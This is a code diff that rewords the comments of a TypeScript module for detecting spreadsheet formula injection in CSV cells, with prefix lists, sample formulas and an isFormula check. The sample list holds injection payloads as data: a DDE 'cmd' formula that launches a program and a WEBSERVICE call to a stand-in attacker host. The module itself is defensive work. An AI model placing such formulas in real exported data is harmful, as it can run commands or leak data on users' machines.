@@ -1,4 +1,4 @@
-/** What spreadsheets take for the sign of a formula, or for white space before one. */
+/** Characters that spreadsheets treat as the sign of a formula, or as white space before one. */
 export const FORMULA_PREFIXES = [
   '=',
   '+',
@@ -28,7 +28,7 @@ export const FORMULA_PREFIXES = [
   'text\n-',
 ];
 
-/** What a formula does: works out, opens a program, asks a server, reads a file. */
+/** Formulas that compute, start a program, call a server, or read a file. */
 export const FORMULAS = [
   '1+1',
   "cmd|' /C calc'!A0",
@@ -36,13 +36,16 @@ export const FORMULAS = [
   'WEBSERVICE("http://evil.test")',
 ];
 
-/** Where a spreadsheet ends a cell within a cell of ours: where it separates by semicolons or tabs, and by lines. */
+/**
+ * Characters at which a spreadsheet may split one of our cells: if it separates cells by semicolons or tabs, and at
+ * line breaks.
+ */
 const CELL_SEPARATORS = /[;\t\r\n]/;
 
-/** The sign of a formula, as spreadsheets trim cells. A smiley `;-)` is none. */
+/** The sign of a formula after white space, which spreadsheets trim. The smiley `;-)` is not a formula. */
 const FORMULA_SIGN = /^\s*(?:[=+@\uFF1D\uFF0B\uFF20]|[-\uFF0D](?!\)))/;
 
-/** Whether some spreadsheet takes a cell, or what is in it, for a formula. */
+/** Whether some spreadsheet treats a cell or a part of it as a formula. */
 export function isFormula(cell: string): boolean {
   return FORMULA_SIGN.test(cell) || cell.split(CELL_SEPARATORS).some((part) => FORMULA_SIGN.test(part));
 }
